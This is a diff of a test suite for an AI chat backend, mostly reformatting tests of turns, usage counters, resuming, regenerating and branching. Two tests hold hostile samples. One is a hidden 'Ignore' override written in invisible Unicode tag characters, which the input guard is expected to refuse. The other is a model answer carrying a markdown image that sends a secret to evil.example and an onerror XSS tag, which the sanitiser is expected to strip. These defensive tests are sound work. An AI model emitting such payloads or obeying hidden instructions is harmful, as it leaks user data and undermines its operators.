@@ -47,10 +47,22 @@ describe("a turn", () => {
     expect(answer.parts.at(-1)).toEqual({ type: "finish" });
 
     const turn = await rowOf("turns", answer.turnId);
-    expect(turn).toMatchObject({ status: "COMPLETED", model_answered: "compatible/first", user_id: guest.userId });
+    expect(turn).toMatchObject({
+      status: "COMPLETED",
+      model_answered: "compatible/first",
+      user_id: guest.userId,
+    });
     expect(turn["prompt_version_id"]).toMatch(/^answer@/);
     expect((turn["trace"] as { stage: string }[]).map(({ stage }) => stage)).toEqual(
-      expect.arrayContaining(["authenticate", "parse", "rate-limit", "guard-input", "reserve", "retrieve", "generate"]),
+      expect.arrayContaining([
+        "authenticate",
+        "parse",
+        "rate-limit",
+        "guard-input",
+        "reserve",
+        "retrieve",
+        "generate",
+      ]),
     );
     const attempt = await rowOf("attempts", answer.turnId);
     expect(attempt["cost_nanos"]).toBe(turn["cost_nanos"]);
@@ -58,7 +70,9 @@ describe("a turn", () => {
     expect(request).toBe(provider.requests(1)[0]?.bodyText);
     expect((await decompress(attempt["response_body"] as Buffer)).toString()).toContain("[DONE]");
 
-    const { rows } = await getPool().query("SELECT * FROM usage_counters WHERE subject = $1", [`user:${guest.userId}`]);
+    const { rows } = await getPool().query("SELECT * FROM usage_counters WHERE subject = $1", [
+      `user:${guest.userId}`,
+    ]);
     expect(rows[0]).toMatchObject({ day_turns: 1, day_nanos: turn["cost_nanos"] });
     expect(Number(rows[0]?.day_tokens)).toBe(Number(turn["input_tokens"]) + Number(turn["output_tokens"]));
   });
@@ -75,7 +89,12 @@ describe("a turn", () => {
     ]);
     expect(chat?.running).toBe(false);
     const sent = JSON.parse(provider.requests(1)[0]?.bodyText ?? "{}");
-    expect(sent.messages.map((message: { role: string }) => message.role)).toEqual(["system", "user", "assistant", "user"]);
+    expect(sent.messages.map((message: { role: string }) => message.role)).toEqual([
+      "system",
+      "user",
+      "assistant",
+      "user",
+    ]);
     expect(await findChat("c-page", "someone-else")).toBeNull();
   });
 
@@ -106,7 +125,9 @@ describe("a turn", () => {
     provider.control({ latencyMs: 50, tokensPerSecond: 100, answer: { kind: "lorem", tokens: 30 } });
     const first = await guest.ask({ id: "c-leave" });
     await first.body?.cancel();
-    const resumed = await readAnswer(await resumeTurn(guest.request("/api/chat/c-leave/stream"), route("c-leave")));
+    const resumed = await readAnswer(
+      await resumeTurn(guest.request("/api/chat/c-leave/stream"), route("c-leave")),
+    );
     expect(resumed.parts.at(0)?.type).toBe("start");
     expect(resumed.parts.at(-1)).toEqual({ type: "finish" });
     expect(resumed.text.split(" ").length).toBeGreaterThan(5);
@@ -150,8 +171,12 @@ describe("a turn", () => {
     expect(second.turnId).not.toBe(first.turnId);
     const chat = await findChat("c-again", guest.userId);
     expect(chat?.messages.map(({ id }) => id)).toEqual(["m1", second.turnId]);
-    expect((await readAnswer(await guest.ask({ id: "c-again", regenerate: "r1" }))).turnId).toBe(second.turnId);
-    await expect(guest.ask({ id: "c-again", regenerate: "r2", messageId: "none" })).rejects.toMatchObject({ code: "not_found" });
+    expect((await readAnswer(await guest.ask({ id: "c-again", regenerate: "r1" }))).turnId).toBe(
+      second.turnId,
+    );
+    await expect(guest.ask({ id: "c-again", regenerate: "r2", messageId: "none" })).rejects.toMatchObject({
+      code: "not_found",
+    });
   });
 
   it("edits a question as a branch beside it", async () => {
@@ -159,18 +184,24 @@ describe("a turn", () => {
     const second = await readAnswer(await guest.ask({ id: "c-edit", messageId: "m2", text: "More?" }));
     const chat = await findChat("c-edit", guest.userId);
     const firstAnswer = chat?.messages[1]?.id ?? "";
-    await readAnswer(await guest.ask({ id: "c-edit", messageId: "m3", text: "Else?", parentId: firstAnswer }));
+    await readAnswer(
+      await guest.ask({ id: "c-edit", messageId: "m3", text: "Else?", parentId: firstAnswer }),
+    );
     const edited = await findChat("c-edit", guest.userId);
     expect(edited?.messages.map(({ id }) => id)).not.toContain(second.turnId);
     expect(edited?.messages[2]?.id).toBe("m3");
-    await expect(guest.ask({ id: "c-edit", messageId: "m4", parentId: "nowhere" })).rejects.toMatchObject({ code: "not_found" });
+    await expect(guest.ask({ id: "c-edit", messageId: "m4", parentId: "nowhere" })).rejects.toMatchObject({
+      code: "not_found",
+    });
   });
 
   it("keeps a question that a guard refuses, before a reviewer, and charges nothing", async () => {
     const flood = "\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}".repeat(20);
     const refused = guest.ask({ id: "c-blocked", text: `Hi ${flood}` });
     await expect(refused).rejects.toMatchObject({ code: "input_blocked", turnId: expect.any(String) });
-    await expect(guest.ask({ id: "c-blocked", text: `Hi ${flood}` })).rejects.toMatchObject({ code: "input_blocked" });
+    await expect(guest.ask({ id: "c-blocked", text: `Hi ${flood}` })).rejects.toMatchObject({
+      code: "input_blocked",
+    });
     const { rows } = await getPool().query(
       "SELECT t.id, t.status, f.kind FROM turns t JOIN flags f ON f.turn_id = t.id WHERE t.chat_id = 'c-blocked'",
     );
@@ -179,7 +210,10 @@ describe("a turn", () => {
   });
 
   it("neutralises what the model must not put on the page", async () => {
-    provider.control({ answer: "Look: ![a](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [go](https://evil.example/)" });
+    provider.control({
+      answer:
+        "Look: ![a](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [go](https://evil.example/)",
+    });
     const answer = await readAnswer(await guest.ask({ id: "c-markup" }));
     expect(JSON.stringify(answer.parts)).not.toContain("evil.example");
     expect(answer.text).not.toContain("<img");
